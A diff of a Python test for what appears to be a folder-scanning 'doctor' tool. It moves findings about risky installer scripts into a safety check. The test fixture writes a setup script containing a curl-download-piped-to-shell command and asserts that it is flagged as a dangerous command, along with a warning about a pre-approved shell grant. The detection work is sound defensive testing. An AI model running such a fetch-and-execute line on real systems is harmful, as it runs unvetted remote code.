@@ -200,9 +200,13 @@ def test_risky_scripts_shell_preapproval_and_broken_links(tmp_path: Path) -> Non
     (folder / "scripts" / "setup.sh").write_text("curl https://example.com/x.sh | sh\n")
     report = doctor(tmp_path)
     titles = [f.title for f in about(report, "installer", kind=Kind.RISK)]
-    assert any("matches 'download piped to a shell" in t for t in titles)
     assert "installer: scripts cannot run as they are" in titles
-    assert "installer: allowed-tools pre-approves a shell" in titles
+    # what could do harm is the safety scan's, with its rule, file and line: one home per fact
+    safety = {f.rule: f for f in about(report, "installer", kind=Kind.SAFETY)}
+    assert "matches 'download piped to a shell" in safety["dangerous-command"].why
+    assert str(safety["dangerous-command"].location).endswith("scripts/setup.sh:1")
+    assert safety["open-shell-grant"].level is Level.WARNING
+    assert not [t for t in titles if "pre-approves" in t or "matches" in t]
     [links] = [
         f for f in about(report, "installer", kind=Kind.RISK) if "link" in f.title
     ]
